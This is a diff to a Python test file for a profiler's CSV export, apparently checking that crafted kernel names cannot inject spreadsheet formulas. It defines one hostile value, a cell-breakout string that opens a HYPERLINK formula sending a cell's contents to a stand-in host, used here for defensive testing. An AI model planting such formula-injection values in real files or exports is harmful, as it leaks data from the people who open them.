@@ -5,7 +5,6 @@ real writer and reader."""
 from __future__ import annotations
 
 import csv
-import importlib.util
 import json
 import os
 import select
@@ -21,13 +20,14 @@ import pytest
 from tuiprof.export.check_nsys import read_nsys_csv
 from tuiprof.export.snapshot import read_snapshot, write_snapshot
 
-from .conftest import REPO, cli_env
+from .conftest import REPO, cli_env, hostile_catalogue
 
 # a kernel name that closes its cell and opens a formula in the next one when quotes inside a
 # cell are not doubled
 BREAKOUT = 'gemm",=HYPERLINK("http://x/?"&A1;"click"),"'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 PROGRAMS = REPO / "tests" / "programs"
+CATALOGUE = hostile_catalogue()
 
 
 def _cli(*args: str, cwd: Path, timeout: float = 180, **env: str) -> subprocess.CompletedProcess:
@@ -35,31 +35,16 @@ def _cli(*args: str, cwd: Path, timeout: float = 180, **env: str) -> subprocess.
                           text=True, timeout=timeout, env=cli_env(**env))
 
 
-def _hostile():
-    spec = importlib.util.spec_from_file_location("tuiprof_hostile", REPO / "tests" / "hostile.py")
-    mod = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(mod)
-    return mod
-
-
-def _number(cell: str) -> bool:
-    try:
-        float(cell.replace(",", ""))
-        return True
-    except ValueError:
-        return False
-
-
 def _assert_no_formula(rows: list[list[str]], where: str) -> None:
     for row in rows:
         for cell in row:
-            assert not (cell.startswith(FORMULA_START) and not _number(cell)), (where, cell)
+            assert not (cell.startswith(FORMULA_START) and not CATALOGUE.is_number(cell)), (where, cell)
 
 
 # ------------------------------------------------------------------ CSV cells stay cells
 def test_a_quote_in_a_kernel_name_cannot_open_a_formula_cell_in_the_nsys_csvs(eager_path,
                                                                             tmp_path):
-    snap = _hostile().write_hostile_snapshot(eager_path, tmp_path / "breakout.json",
+    snap = CATALOGUE.write_hostile_snapshot(eager_path, tmp_path / "breakout.json",
                                              catalogue=(BREAKOUT, "plain", "x,y", '"q"'))
     proc = _cli("export", str(snap), "--nsys", str(tmp_path / "nsys"), cwd=tmp_path)
     assert proc.returncode == 0, proc.stderr[-2000:]
